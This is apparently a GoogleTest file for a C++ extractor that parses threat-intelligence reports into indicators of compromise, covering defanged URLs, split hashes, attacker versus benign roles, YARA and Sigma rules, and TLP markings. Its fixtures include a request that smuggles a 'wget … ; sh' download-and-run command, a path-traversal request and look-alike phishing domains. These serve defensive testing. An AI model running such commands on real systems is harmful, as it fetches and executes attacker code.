#include "text/extract/extract.h"

#include <fmt/format.h>
#include <gtest/gtest.h>

#include "text/extract/document.h"
#include "text/extract/prepare.h"

namespace assay {
namespace {

// "role kind value" a line, in order.
std::string read(std::string_view text, const std::vector<KnownName>& names = {}) {
  std::string out;
  const ReportFacts facts = extract_report(text, names);
  for (const Candidate& c : facts.candidates)
    out += fmt::format("{} {} {}\n", name_of(c.role), name_of(c.kind), c.value);
  for (const EmbeddedRule& rule : facts.rules) out += fmt::format("rule {} {}\n", rule.type, rule.name);
  for (const std::string& flaw : facts.vulnerabilities) out += flaw + "\n";
  for (const std::string& technique : facts.techniques) out += technique + "\n";
  for (const NamedThing& thing : facts.names)
    out += fmt::format("{} {} ({})\n", thing.kind, thing.name, fmt::join(thing.written, ", "));
  return out;
}

TEST(Prepare, DefangedFormsAreUndone) {
  const std::vector<std::pair<std::string_view, std::string_view>> kForms = {
      {"hxxp://update-mirror[.]net/a", "http://update-mirror.net/a"},
      {"hXXps[:]//update-mirror(.)net", "https://update-mirror.net"},
      {"h**p://update-mirror{.}net", "http://update-mirror.net"},
      {"hxxp[://]update-mirror[dot]net", "http://update-mirror.net"},
      {"update-mirror [.] net", "update-mirror.net"},
      {"update-mirror dot net", "update-mirror.net"},
      {"update-mirror\\.net", "update-mirror.net"},
      {"update-mirror[.net", "update-mirror.net"},
      {"update-mirror.]net", "update-mirror.net"},
      {"update-mirror[.net]", "update-mirror.net"},
      {"billing[at]update-mirror[.]net", "billing@update-mirror.net"},
      {"update\xe2\x80\x8b-mirror\xc2\xad[.]net", "update-mirror.net"},  // zero-width space, soft hyphen
      {"update-mirror\xef\xbc\x8enet", "update-mirror.net"},             // full-width dot
      {"203[.]0[.]113[.]7", "203.0.113.7"},
      {"2001[:]db8[:]:7", "2001:db8::7"},
  };
  for (const auto& [written, meant] : kForms) {
    const Prepared prepared = prepare(written);
    EXPECT_EQ(prepared.text, meant);
    EXPECT_EQ(prepared.from.size(), prepared.text.size() + 1);
  }
  // A path keeps its backslashes, prose its words.
  EXPECT_EQ(prepare("HKLM\\SOFTWARE\\Classes\\.abc").text, "HKLM\\SOFTWARE\\Classes\\.abc");
  EXPECT_EQ(prepare("connect the dot com boom").text, "connect the dot com boom");
  EXPECT_EQ(prepare("He arrived (at) noon").text, "He arrived (at) noon");
}

TEST(Prepare, CutValuesAreJoined) {
  EXPECT_EQ(prepare("SHA-256\n9f86d081884c7d659a2feaa0c55ad015\na3bf4f1b2b0b822cd15d6c15b0f00a08\n").text,
            "SHA-256\n9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n");
  EXPECT_EQ(prepare("9f86d081884c7d659a2feaa0c55ad015a3bf-\n4f1b2b0b822cd15d6c15b0f00a08").text,
            "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08");
  // Two MD5 under one another stay two.
  EXPECT_EQ(prepare("MD5\n9f86d081884c7d659a2feaa0c55ad015\na3bf4f1b2b0b822cd15d6c15b0f00a08\n").text,
            "MD5\n9f86d081884c7d659a2feaa0c55ad015\na3bf4f1b2b0b822cd15d6c15b0f00a08\n");
  EXPECT_EQ(prepare("9f86d081884c7d65 9a2feaa0c55ad015 a3bf4f1b2b0b822c\nd15d6c15b0f00a08").text,
            "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08");
  EXPECT_EQ(prepare("hxxp://update-mirror[.]net/a/\nload.php?x=1 was used").text,
            "http://update-mirror.net/a/load.php?x=1 was used");
  EXPECT_EQ(prepare("it asks update-mirror[.]\nnet every hour").text, "it asks update-mirror.net every hour");
  EXPECT_EQ(prepare("the sources 79[.]124[.]62\n[.]130, others").text, "the sources 79.124.62.130, others");
  EXPECT_EQ(prepare("a list:\n[.] is a dot").text, "a list:\n[.] is a dot");
  // A sentence that ends in a URL is not joined to the next one.
  EXPECT_EQ(prepare("see hxxp://update-mirror[.]net/\nThe file").text, "see http://update-mirror.net/\nThe file");
}

TEST(Outline, HeadingsSayWhatFollows) {
  bool inherit = false;
  EXPECT_EQ(section_of("Appendix A: Indicators of Compromise", inherit), Section::indicators);
  EXPECT_EQ(section_of("References", inherit), Section::references);
  EXPECT_EQ(section_of("Victims", inherit), Section::victims);
  EXPECT_EQ(section_of("Mitigations and recommendations", inherit), Section::advice);
  EXPECT_EQ(section_of("Legitimate services (do not block)", inherit), Section::benign);
  EXPECT_EQ(section_of("First contact: the honeypots of the east", inherit), Section::neutral);
  EXPECT_EQ(section_of("Domains", inherit), Section::neutral);
  EXPECT_TRUE(inherit);
}

TEST(Extract, AReportInProse) {
  EXPECT_EQ(read("The loader asks hxxp://cdn-sync[.]net/g?id=1 and then 45[.]77[.]10[.]9 on port 443.\n"
                 "It checks connectivity to www.google.com first. The victim's mail server mail.nordhaven.org was not "
                 "touched.\n"
                 "Details are at https://www.cisa.gov/alerts/x and CVE-2019-19781 and T1190, T1059.001 apply.\n"),
            "attacker url http://cdn-sync.net/g?id=1\nattacker domain cdn-sync.net\nattacker ipv4 45.77.10.9\nbenign "
            "domain www.google.com\n"
            "victim domain mail.nordhaven.org\nreference url "
            "https://www.cisa.gov/alerts/x\nCVE-2019-19781\nT1059.001\nT1190\n");
}

TEST(Extract, ATable) {
  EXPECT_EQ(read("# Indicators of Compromise\n\n| Type | Value | Comment |\n|---|---|---|\n| domain | cdn-sync[.]net | "
                 "C2 |\n| ip | 8.8.8.8 | public DNS |\n"
                 "| md5 | 0cc175b9c0f1b6a831c399e269772661 | loader |\n| file | conhost.exe | name used |\n| ip | "
                 "10.1.2.3 | internal host |\n"),
            "attacker domain cdn-sync.net\nbenign ipv4 8.8.8.8\nattacker md5 0cc175b9c0f1b6a831c399e269772661\nbenign "
            "file_name conhost.exe\nvictim ipv4 10.1.2.3\n");
}

TEST(Extract, FileOrDomain) {
  EXPECT_EQ(read("Indicators\n\nThe script setup_x.py contacts evil-sync[.]sh and drops report_7.doc; MD5 "
                 "0cc175b9c0f1b6a831c399e269772661.\n"),
            "attacker file_name setup_x.py\nattacker domain evil-sync.sh\nattacker file_name report_7.doc\nattacker "
            "md5 0cc175b9c0f1b6a831c399e269772661\n");
}

TEST(Extract, HashesByTheirLabels) {
  EXPECT_EQ(read("Indicators:\n- Imphash: 0cc175b9c0f1b6a831c399e269772661\n- JA3: 92eb5ffee6ae2fec3ad71c777531578f\n- "
                 "MD5: 4a8a08f09d37b73795649038408b5f33\n"
                 "- Certificate thumbprint: 86f7e437faa5a7fce15d1ddcb9eaeaea377667b8\n- MD5 of nothing: "
                 "d41d8cd98f00b204e9800998ecf8427e\n"),
            "benign imphash 0cc175b9c0f1b6a831c399e269772661\nbenign ja3 "
            "92eb5ffee6ae2fec3ad71c777531578f\nattacker md5 4a8a08f09d37b73795649038408b5f33\n"
            "attacker certificate_sha1 86f7e437faa5a7fce15d1ddcb9eaeaea377667b8\nbenign md5 "
            "d41d8cd98f00b204e9800998ecf8427e\n");
}

TEST(Extract, RulesInTheTextAreRules) {
  EXPECT_EQ(read("Detection\n\nrule Sync_Loader : loader {\n  strings:\n    $a = \"hxxp://in-rule[.]net/}\"\n    $b = "
                 "{ 4d 5a }\n  condition:\n    $a and $b\n}\n\n"
                 "title: Sync loader\nlogsource:\n  product: windows\ndetection:\n  sel:\n    Image: "
                 "'*\\in-sigma.exe'\n  condition: sel\n\nIt calls cdn-sync[.]net.\n"),
            "attacker domain cdn-sync.net\nrule yara Sync_Loader\nrule sigma Sync loader\n");
}

// "HASH *NAME", and below the head "File" of a table with hashes: a name needs no ending there.
TEST(Extract, FilesByTheirPlace) {
  EXPECT_EQ(read("# Samples\n\n```\n0cc175b9c0f1b6a831c399e269772661 *sync_nix\n```\n\n"
                 "| File | MD5 |\n| --- | --- |\n| netsyncd | 92eb5ffee6ae2fec3ad71c777531578f |\n\n"
                 "| Family | MD5 |\n| --- | --- |\n| Harbourcat | 4a8a08f09d37b73795649038408b5f33 |\n"),
            "attacker md5 0cc175b9c0f1b6a831c399e269772661\nattacker file_name sync_nix\n"
            "attacker file_name netsyncd\nattacker md5 92eb5ffee6ae2fec3ad71c777531578f\n"
            "attacker md5 4a8a08f09d37b73795649038408b5f33\n");
}

// A report that defangs nothing: names of the attacker's domain, and the address that answers one.
TEST(Extract, ByCompany) {
  EXPECT_EQ(read("# Notes\n\nThe attacker used t.sync-harbour.net for its tunnel.\n\n"
                 "10:00  10.0.0.1  A  ns.sync-harbour.net  -> 45.77.10.9\n"),
            "attacker domain t.sync-harbour.net\nbenign ipv4 10.0.0.1\nattacker domain ns.sync-harbour.net\n"
            "attacker ipv4 45.77.10.9\n");
}

// Rows that commas or semicolons cut: a name without an ending, and a URL that ends with its cell.
TEST(Extract, RowsOfValues) {
  EXPECT_EQ(
      read("# Indicators\n\nsha256;name;family\n"
           "4b227777d4dd1fc61c6f884f48641d02b4d121d3fd328cb08b5531fcacdabf8a;netsyncd;HARBOURCAT\n\n"
           "type;value;note\nurl;https://cdn-sync.net/a/netsyncd;payload\n"),
      "attacker sha256 4b227777d4dd1fc61c6f884f48641d02b4d121d3fd328cb08b5531fcacdabf8a\n"
      "attacker file_name netsyncd\nattacker url https://cdn-sync.net/a/netsyncd\nattacker domain cdn-sync.net\n");
}

// What leaves no choice, whatever else is said: places of all systems, a service's own address, the number of a
// message.
TEST(Extract, FixedNatures) {
  EXPECT_EQ(
      read("# Indicators\n\n- /etc/passwd\n- C:\\Windows\\System32\\svchost.exe\n- https://api.ipify.org/?format=json\n"
           "- checkip.dyndns.com 45.77.10.8\n- Message-ID: <a7b2c3@cdn-sync.net>\n- iocs.csv\n"),
      "benign file_path /etc/passwd\nbenign file_path C:\\Windows\\System32\\svchost.exe\nbenign url "
      "https://api.ipify.org/?format=json\nbenign domain checkip.dyndns.com\nbenign ipv4 45.77.10.8\nreference "
      "file_name iocs.csv\n");
}

// A table below a rule is no part of it, and "*not*" in a heading denies.
TEST(Extract, AfterARuleAndUnderADenial) {
  EXPECT_EQ(read("title: Sync loader\nlogsource:\n  product: windows\ndetection:\n  sel:\n    Image: 'a'\n  condition: "
                 "sel\n\n# Indicators\n\n | Type | Value |\n | domain | cdn-sync[.]net |\n"),
            "attacker domain cdn-sync.net\nrule sigma Sync loader\n");
  bool inherit = false;
  EXPECT_EQ(section_of("What is *not* an IOC", inherit), Section::benign);
}

// Forms that reports wrap, quote and fill: halves of a hash by the label of their row, a step that stands for any, a
// command in quotes, a request with encoded marks, a hidden file, the blank in the name of a sample.
TEST(Extract, FormsOfFiles) {
  EXPECT_EQ(read("# Indicators\n\n"
                 "  Name     sync.dll\n"
                 "  SHA512   4b227777d4dd1fc61c6f884f48641d02b4d121d3fd328cb08b5531fcacdabf8a\n"
                 "ef2d127de37b942baad06145e54b0c619a1f22327b2ebbcfbec78f5564afe39d\n"
                 "  Size     1024\n\n"
                 "- C:\\Users\\<user>\\AppData\\Roaming\\sync.exe\n"
                 "- $env:TEMP\\sync.ps1\n"
                 "- \"C:\\ProgramData\\Sync\\run.exe /s -q\"\n"
                 "- .sync.phtml\n"),
            "attacker file_name sync.dll\n"
            "attacker sha512 4b227777d4dd1fc61c6f884f48641d02b4d121d3fd328cb08b5531fcacdabf8a"
            "ef2d127de37b942baad06145e54b0c619a1f22327b2ebbcfbec78f5564afe39d\n"
            "attacker file_path C:\\Users\\<user>\\AppData\\Roaming\\sync.exe\n"
            "attacker file_path $env:TEMP\\sync.ps1\n"
            "attacker file_path C:\\ProgramData\\Sync\\run.exe\n"
            "attacker file_name .sync.phtml\n");
}

// A good file among the others of a list, rows that say so, and what is to be left alone.
TEST(Extract, GoodOnesInLists) {
  EXPECT_EQ(read("# Indicators\n\n"
                 "| File | SHA-256 | Malicious |\n|---|---|---|\n"
                 "| sync.dll | 4b227777d4dd1fc61c6f884f48641d02b4d121d3fd328cb08b5531fcacdabf8a | true |\n"
                 "| view.exe | ef2d127de37b942baad06145e54b0c619a1f22327b2ebbcfbec78f5564afe39d | false |\n\n"
                 "| Value | Note |\n|---|---|\n"
                 "| cdn-sync[.]net | C2 |\n"
                 "| 45.77.10.8 | shared hosting, do not block |\n"),
            "attacker file_name sync.dll\n"
            "attacker sha256 4b227777d4dd1fc61c6f884f48641d02b4d121d3fd328cb08b5531fcacdabf8a\n"
            "benign file_name view.exe\n"
            "benign sha256 ef2d127de37b942baad06145e54b0c619a1f22327b2ebbcfbec78f5564afe39d\n"
            "attacker domain cdn-sync.net\nbenign ipv4 45.77.10.8\n");
}

// Fields of queries and classes of scripts have the form of domains; an encoded mark is no part of a name.
TEST(Extract, WhatOnlyLooksLikeAName) {
  EXPECT_EQ(read("# Hunting\n\n"
                 "```\nprocess.parent.name : \"sync.exe\" and dns.question.name : \"cdn-sync.net\"\n"
                 "var s = new ActiveXObject(\"WScript.Shell\");\n"
                 "POST /up/a.aspx fid=..%2f..%2fsyncerr.aspx\n```\n"),
            "attacker file_name sync.exe\nattacker domain cdn-sync.net\nattacker file_name syncerr.aspx\n");
}

// Blanks in folders, a second key behind the first, a path below nothing, a command that a request carries encoded.
TEST(Extract, WhereAPathOrUrlEnds) {
  const auto values = [](std::string_view text) {
    std::string out;
    for (const Candidate& c : extract_report(text, {}).candidates)
      out += fmt::format("{} {}\n", name_of(c.kind), c.value);
    return out;
  };
  EXPECT_EQ(values("It lies in /Library/Application Support/.fjord/fjordd as root."),
            "file_path /Library/Application Support/.fjord/fjordd\n");
  EXPECT_EQ(values("It lies in ~/Library/Application\\ Support/fjord/fjordd as root."),
            "file_path ~/Library/Application Support/fjord/fjordd\n");
  EXPECT_EQ(values("Both HKLM\\SOFTWARE\\Classes\\.fjord and HKLM\\SOFTWARE\\Fjord\\Icon are written."),
            "registry_key HKLM\\SOFTWARE\\Classes\\.fjord\nregistry_key HKLM\\SOFTWARE\\Fjord\\Icon\n");
  EXPECT_EQ(
      values("The key is\n\nHKLM\\SYSTEM\\CurrentControlSet\\Control\\Print\\Monitors\\Fjord Monitor\n\nand so on.\n"),
      "registry_key HKLM\\SYSTEM\\CurrentControlSet\\Control\\Print\\Monitors\\Fjord Monitor\n");
  EXPECT_EQ(values("start .\\bin\\fjord.exe -q"), "file_name fjord.exe\n");
  EXPECT_EQ(values("It sets the mutex `Local\\FJORD_7F`, and pictures are kept in `%TEMP%\\fj\\` until sent."),
            "mutex Local\\FJORD_7F\nfile_path %TEMP%\\fj\\\n");
  EXPECT_EQ(values("GET /a.rsp?cmd=cd%20%2Ftmp%3Bwget%20http://45.77.10.9/fj%3B%20sh%20fj HTTP/1.1"),
            "url http://45.77.10.9/fj\n");
}

// What a row, a filter or the way it is written says to be nobody's weapon.
TEST(Extract, GoodOnesBesideBadOnes) {
  EXPECT_EQ(read("# Indicators\n\n"
                 "| SHA-256 | File | Note |\n|---|---|---|\n"
                 "| 4b227777d4dd1fc61c6f884f48641d02b4d121d3fd328cb08b5531fcacdabf8a | fjord-1.2.tar.xz | (bad) |\n"
                 "| ef2d127de37b942baad06145e54b0c619a1f22327b2ebbcfbec78f5564afe39d | fjord-1.1.tar.xz | (good) |\n"),
            "attacker sha256 4b227777d4dd1fc61c6f884f48641d02b4d121d3fd328cb08b5531fcacdabf8a\n"
            "attacker file_name fjord-1.2.tar.xz\n"
            "benign sha256 ef2d127de37b942baad06145e54b0c619a1f22327b2ebbcfbec78f5564afe39d\n"
            "benign file_name fjord-1.1.tar.xz\n");
  std::string hunted;
  for (const Candidate& c : extract_report("# Look-alikes\n\n| Real | Registered |\n|---|---|\n"
                                           "| ostfjord-dairy.com | ostfjord-diary[.]com |\n"
                                           "| kalle-freight.net | kal1e-freight[.]net |\n",
                                           {})
                                .candidates) {
    if (c.role == ReportRole::attacker) hunted += c.value + "\n";
  }
  EXPECT_EQ(hunted, "ostfjord-diary.com\nkal1e-freight.net\n");
  // The name of malware in the column of files, and the name of a firm, which is a domain's too.
  EXPECT_EQ(read("# Indicators\n\n| SHA-256 | File |\n|---|---|\n"
                 "| 4b227777d4dd1fc61c6f884f48641d02b4d121d3fd328cb08b5531fcacdabf8a | FjordRat |\n"),
            "attacker sha256 4b227777d4dd1fc61c6f884f48641d02b4d121d3fd328cb08b5531fcacdabf8a\n");
  EXPECT_EQ(read("# Indicators\n\ncdn-sync[.]net\n45[.]77[.]10[.]9\nhttps://members.fjordcert.com/fc-2026-11.csv\n"),
            "attacker domain cdn-sync.net\nattacker ipv4 45.77.10.9\n"
            "reference url https://members.fjordcert.com/fc-2026-11.csv\n");
}

TEST(Extract, NamesAndAliases) {
  const std::vector<KnownName> names = {{"intrusion-set", "APT29", "G0016", {"Cozy Bear", "The Dukes"}},
                                        {"malware", "WellMess", "S0514", {}}};
  EXPECT_EQ(read("Cozy Bear (APT29) used WellMess. A cozy bear is an animal.", names),
            "intrusion-set APT29 (APT29, Cozy Bear)\nmalware WellMess (WellMess)\n");
}

TEST(Extract, VersionsAndSpecialAddressesAreNoIndicators) {
  EXPECT_EQ(read("Upgrade from version 9.0.3.4 to 10.2.1.7. The malicious server 45[.]77[.]10[.]9 was asked; 127.0.0.1 "
                 "and 192.168.1.7 appear too.\n"),
            "benign ipv4 9.0.3.4\nbenign ipv4 10.2.1.7\nattacker ipv4 45.77.10.9\nbenign ipv4 127.0.0.1\nbenign ipv4 "
            "192.168.1.7\n");
}

TEST(Extract, SentenceAndPlaceAreOfTheTextAsWritten) {
  const std::string text = "First. The loader asks cdn-sync[.]net every hour. Last.";
  const ReportFacts facts = extract_report(text, {});
  ASSERT_EQ(facts.candidates.size(), 1U);
  EXPECT_EQ(facts.candidates[0].sentence, "The loader asks cdn-sync[.]net every hour.");
  EXPECT_EQ(facts.candidates[0].offset, text.find("cdn-sync"));
}

TEST(Extract, MarkingsDateAndCounts) {
  const ReportFacts facts =
      extract_report("TLP:AMBER+STRICT PAP:RED\n\nHarbour warning\n16 July 2020\n\nThe annex lists 51 domains.\n", {});
  EXPECT_EQ(facts.tlp, "TLP:AMBER+STRICT");
  EXPECT_EQ(facts.pap, "PAP:RED");
  EXPECT_EQ(facts.date, "2020-07-16");
  ASSERT_EQ(facts.stated.size(), 1U);
  EXPECT_EQ(facts.stated[0], (std::pair<std::string, std::size_t>("domain", 51)));
}

// Linear: texts that were made to hurt end quickly. What counts is that they end.
TEST(Extract, HostileTexts) {
  const std::size_t n = 200'000;
  std::string repeated;
  for (std::size_t i = 0; i < n / 8; ++i) repeated += "a dot b ";
  std::string far = std::string(5 * n, ' ');  // values in one line, far from its begin
  for (std::size_t i = 0; i < n / 20; ++i) far += "cdn-sync.net ";
  std::string tools;
  for (std::size_t i = 0; i < n / 30; ++i) tools += "git clone http://cdn-sync.net/a [x](";
  for (const std::string& text :
       {std::string(n, '['), std::string(n, 'a'), std::string(n, '.'), std::string(n, ' ') + "a[.]b",
        std::string(n, '\n'), repeated, far, tools, std::string(n, '\\'), "rule a {" + std::string(n, '{'),
        "title: x\n" + std::string(n, ' '), std::string(n, '0'), std::string(n, '\x80'),
        "http://" + std::string(n, 'a')}) {
    (void)extract_report(text, {});
  }
  std::string row = "# Indicators\n";
  for (std::size_t i = 0; i < 5000; ++i) row += fmt::format("d{}[.]cdn-sync[.]net, ", i);
  EXPECT_EQ(extract_report(row, {}).candidates.size(), 5000U);
}

}  // namespace
}  // namespace assay
